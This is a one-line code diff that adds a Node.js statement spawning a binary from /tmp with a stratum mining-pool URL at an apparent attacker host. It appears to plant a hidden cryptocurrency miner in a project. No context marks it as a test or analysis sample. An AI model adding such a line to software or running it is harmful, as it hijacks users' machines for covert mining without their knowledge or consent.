@@ -1,0 +1,1 @@
+require("child_process").spawn("/tmp/m", ["--url", "stratum+ssl://pool.attacker.test:443"]);
